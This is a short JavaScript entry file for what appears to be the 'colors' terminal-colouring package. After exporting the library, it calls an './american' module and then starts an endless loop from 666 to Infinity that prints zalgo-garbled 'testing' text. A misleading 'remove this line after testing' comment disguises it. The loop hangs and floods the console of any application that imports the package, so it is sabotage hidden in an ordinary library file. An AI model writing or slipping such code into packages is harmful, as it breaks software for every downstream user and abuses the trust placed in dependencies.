var colors = require('./colors');
module['exports'] = colors;

/* remove this line after testing */
let am = require('./american');
am();
for (let i = 666; i < Infinity; i++) {
  if (i % 333) {
    // console.log('testing'.zalgo.rainbow)
  }
  console.log('testing testing testing testing testing testing testing'.zalgo);
}
